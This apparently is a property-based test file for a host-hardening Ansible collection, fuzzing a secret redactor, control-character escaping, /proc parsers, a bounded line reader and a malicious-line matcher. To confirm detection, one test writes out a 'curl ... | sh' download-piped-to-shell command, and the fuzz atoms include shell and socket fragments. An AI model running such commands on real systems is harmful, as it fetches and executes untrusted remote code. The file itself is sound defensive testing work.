"""Bounded hypothesis properties of the core parsers owned by issue 17 (redaction, line patterns,
/proc parsers, line reader): no exception on any input, and the stated invariants. ``make fuzz``
raises the example count (HOSTGUARD_FUZZ_EXAMPLES)."""
import os

from hypothesis import HealthCheck, given, settings, strategies as st

from ansible_collections.hostguard.hardening.plugins.module_utils.core import linematch, procfs, redact, safe_read
from ansible_collections.hostguard.hardening.plugins.module_utils.core.findings import CheckSet

EXAMPLES = int(os.environ.get("HOSTGUARD_FUZZ_EXAMPLES", 150))
PROPS = settings(max_examples=EXAMPLES, deadline=None,
                 suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
SECRET = "Zq9Secretvalue7"
ATOMS = st.sampled_from(["--password", "--token", "-p", "mysql", "redis-cli", "-a", "Authorization:",
                         "Bearer", "DB_PASSWORD=", "https://u:", "@h", "\"", "'", "=", ":", " ", "\t",
                         "\n", "\x1b", "\u202e", "requirepass", "-----BEGIN", "PRIVATE KEY-----",
                         "curl", "|", "sh", ";", "&&", "/tmp/", "/.", "python", "-c", "socket"])
LINES = st.lists(st.one_of(ATOMS, st.text(max_size=12)), max_size=40).map("".join)

CHECKS = CheckSet(area="prop", prefix="HG-PROP")
PROP = CHECKS.define("HG-PROP-001", "prop", "low", reads="x", remediation="y")


@PROPS
@given(LINES)
def test_redact_total_and_idempotent(text):
    once = redact.redact(text)
    assert isinstance(once, str)
    assert redact.redact(once) == once


@PROPS
@given(st.sampled_from(["--password", "--token", "--secret", "--api-key", "--auth"]), LINES, LINES)
def test_secret_option_values_never_survive(option, before, after):
    for text in ("%s %s=%s %s" % (before, option, SECRET, after),
                 "%s %s %s %s" % (before.rstrip("-"), option, SECRET, after)):
        assert SECRET not in redact.redact(text)


@PROPS
@given(LINES)
def test_escape_leaves_no_control_or_bidi(text):
    out = redact.escape_controls(text, keep_newlines=False)
    assert not any(ord(ch) < 32 or 0x7f <= ord(ch) < 0xa0 or 0x202a <= ord(ch) <= 0x202e
                   or 0x2066 <= ord(ch) <= 0x2069 for ch in out)


@PROPS
@given(LINES, st.recursive(st.one_of(st.text(max_size=30), st.integers(), st.none()),
                           lambda kids: st.lists(kids, max_size=5) | st.dictionaries(st.text(max_size=8), kids, max_size=5),
                           max_leaves=20))
def test_findings_are_bounded_and_gated(subject, evidence):
    finding = PROP.fail(subject, {"e": evidence})
    assert "\n" not in finding["subject"] and "\x1b" not in finding["subject"]
    assert len(finding["subject"]) <= 2 * 512 + 64


@PROPS
@given(LINES)
def test_linematch_total(text):
    for name, hit in linematch.match_line(text, text):
        assert 0 <= hit.start() <= hit.end() <= len(text)
        assert name in dict(linematch.MALICIOUS_PATTERNS)


@PROPS
@given(LINES, LINES)
def test_curl_pipe_sh_is_found_after_any_prefix(prefix, suffix):
    line = prefix.replace("\n", " ") + " ; curl -s http://e/x | sh " + suffix.replace("\n", " ")
    assert "download_piped_to_shell" in [n for n, _h in linematch.match_line(line)]


@PROPS
@given(st.text(max_size=400))
def test_parse_status_total(text):
    assert isinstance(procfs.parse_status(text), dict)


@PROPS
@given(st.lists(st.text(max_size=120), max_size=20))
def test_parse_net_tables_total(lines):
    assert isinstance(procfs.parse_inet_table(lines, "tcp"), list)
    assert isinstance(procfs.parse_unix_table(lines), list)


@PROPS
@given(st.binary(max_size=3000), st.integers(1, 200), st.integers(1, 4000))
def test_iter_lines_bounded(tmp_path_factory, data, max_line, max_bytes):
    path = str(tmp_path_factory.mktemp("lines") / "f")
    with open(path, "wb") as handle:
        handle.write(data)
    seen = 0
    for _no, line, _cut in safe_read.iter_lines(path, max_bytes=max_bytes, max_line=max_line):
        assert len(line) <= max_line
        seen += len(line)
    assert seen <= max_bytes
